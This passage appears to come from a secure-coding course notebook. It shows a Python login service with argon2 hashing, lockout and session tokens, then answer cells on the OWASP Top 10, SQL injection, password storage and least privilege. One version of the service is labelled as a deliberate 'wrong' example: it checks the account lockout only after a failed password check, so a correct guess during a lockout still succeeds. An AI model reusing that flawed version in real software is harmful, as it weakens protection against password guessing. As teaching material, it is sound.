            raise LoginFailed(GENERIC)
        self.failures[name] = 0
        self.sessions = {t: u for t, u in self.sessions.items() if u != name}
        token = secrets.token_urlsafe(32)
        self.sessions[token] = name
        self.record("login", name)
        return token

    def user_for(self, token):
        return self.sessions.get(token)

    def logout(self, token):
        user = self.sessions.pop(token, None)
        if user is not None:
            self.record("logout", user)

# %% course={"kind": "wrong", "id": "lock-checked-late"}
from argon2.exceptions import VerificationError

GENERIC = "invalid user name or password"
DUMMY_HASH = HASHER.hash(secrets.token_hex(16))


class LoginFailed(Exception):
    pass


class UserService:
    max_failures = 5
    lockout_seconds = 900.0

    def __init__(self, clock):
        self.clock = clock
        self.audit = []
        self.hashes, self.failures, self.locked_until, self.sessions = {}, {}, {}, {}

    def record(self, event, user):
        self.audit.append({"event": event, "user": user, "at": self.clock()})

    def register(self, name, password):
        if len(password) < 12 or name in self.hashes:
            raise ValueError(name)
        self.hashes[name] = HASHER.hash(password)
        self.record("register", name)

    def login(self, name, password):
        now = self.clock()
        try:
            verified = HASHER.verify(self.hashes.get(name, DUMMY_HASH), password)
        except VerificationError:
            verified = False
        if not (verified and name in self.hashes):
            if now < self.locked_until.get(name, now):
                self.record("login-locked", name)
                raise LoginFailed(GENERIC)
            self.failures[name] = self.failures.get(name, 0) + 1
            self.record("login-failed", name)
            if self.failures[name] >= self.max_failures:
                self.failures[name] = 0
                self.locked_until[name] = now + self.lockout_seconds
                self.record("lockout", name)
            raise LoginFailed(GENERIC)
        self.failures[name] = 0
        self.sessions = {t: u for t, u in self.sessions.items() if u != name}
        token = secrets.token_urlsafe(32)
        self.sessions[token] = name
        self.record("login", name)
        return token

    def user_for(self, token):
        return self.sessions.get(token)

    def logout(self, token):
        user = self.sessions.pop(token, None)
        if user is not None:
            self.record("logout", user)

# %% [markdown] course={"kind": "answer", "question": "q-what-is-the-owasp-top-10"}
# A ranked list of the ten most common web application risk categories, published by OWASP from data on real
# findings (plus a community survey) and revised every three or four years (2017, 2021, 2025). The 2021 list:
# broken access control, cryptographic failures, injection (XSS included), insecure design, security
# misconfiguration (XXE included), vulnerable and outdated components, identification and authentication
# failures, software and data integrity failures (insecure deserialization included), security logging and
# monitoring failures, server-side request forgery. The 2025 list keeps most of these but reorders them (security
# misconfiguration rises to 2nd), folds SSRF into broken access control, widens outdated components into software
# supply chain failures, and adds mishandling of exceptional conditions (failing open on errors). It is an
# awareness document and a review checklist, not a complete standard: logic flaws outside the ten still happen.

# %% [markdown] course={"kind": "answer", "question": "q-how-do-you-prevent-sql-injection"}
# Never build SQL text from input. Use parameterized queries (`?` / `%s` placeholders, or an ORM that uses
# them), so values travel apart from the SQL and are never parsed as code. Identifiers (column or table names,
# `ASC`/`DESC`) cannot be parameters: map user choices through an allowlist of names you wrote. Add defence in
# depth: validate input types and formats, connect with a least-privilege database user (read-only where
# possible), keep error details out of responses, and scan code (bandit `B608`, review) for string-built queries.
# Escaping by hand and denylists of "bad" words are not fixes: the demo's `UNION` payload walks past them.

# %% [markdown] course={"kind": "answer", "question": "q-how-do-you-securely-store-passwords"}
# Store only a slow, salted, memory-hard password hash: argon2id (first choice), scrypt or bcrypt, through a
# maintained library, with a unique random salt per password (the library's encoded hash carries salt and
# parameters). Never plain text, never reversible encryption, never a fast hash such as SHA-256 alone. Verify with
# the library (constant-time), rehash on login when the parameters were raised, rate-limit and lock out repeated
# failures, never log passwords, and return one generic error so login does not reveal which names exist.

# %% [markdown] course={"kind": "answer", "question": "q-what-is-the-principle-of-least-privilege"}
# Every user, process, token and service account gets only the permissions its job needs, for only as long as it
# needs them. A report job gets a read-only database login (the lesson's read-only connection refused `DROP
# TABLE`), a CI token can push to one repository, a container runs as a non-root user with a read-only file system.
# When something is compromised or buggy, least privilege limits the damage (the blast radius). It pairs with
# fail-closed checks and defence in depth.
